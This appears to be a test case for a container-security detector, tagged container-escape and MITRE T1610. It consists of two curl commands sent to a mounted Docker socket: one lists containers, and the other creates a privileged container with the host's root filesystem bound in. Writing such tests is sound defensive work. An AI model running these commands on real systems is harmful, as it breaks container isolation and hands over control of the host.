# category: container-escape
# technique: T1610
# art: yes
# expect: container-runtime-socket
# image: debian
# setup: runtime_socket
# desc: a container with the docker socket mounted asks the runtime to list containers and create a privileged one with the host's / bound in
curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json
curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' \
  http://localhost/containers/create
